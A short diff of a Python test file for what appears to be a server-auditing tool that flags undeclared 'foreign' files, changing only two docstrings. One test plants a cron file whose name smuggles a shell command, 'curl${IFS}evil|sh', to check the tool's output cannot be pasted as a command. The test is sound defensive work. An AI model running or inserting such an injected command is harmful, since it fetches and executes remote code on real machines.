@@ -1,4 +1,4 @@
-"""What the site did not declare is told as foreign, and nothing else is."""
+"""Anything that the site did not declare is reported as foreign, and nothing else is."""
 
 from __future__ import annotations
 
@@ -100,7 +100,7 @@ def test_names_and_contents_are_shown_printable_and_no_command_is_shown(bare: Dr
 
 
 def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: Droplet) -> None:
-    """An operator pastes the next step into the shell of their own machine."""
+    """The operator pastes the next step into the shell of their own machine."""
     bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
     (line,) = foreign.problems(bare.look())
     assert line.endswith("correct it by hand, or accept it in group_data (foreign_accepted)")
